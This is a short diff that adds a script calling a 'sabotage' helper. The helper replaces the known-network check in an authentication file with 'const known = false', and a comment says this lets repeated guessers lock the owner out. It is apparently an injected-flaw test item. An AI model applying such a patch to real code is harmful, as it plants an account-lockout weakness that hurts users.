@@ -1,0 +1,10 @@
+import { sabotage } from './replace.ts';
+
+// Whoever guesses often enough locks the owner out.
+sabotage([
+  {
+    file: 'src/accounts/authenticate.ts',
+    find: 'const known = login?.networks.includes(network) === true;',
+    put: 'const known = false;',
+  },
+]);
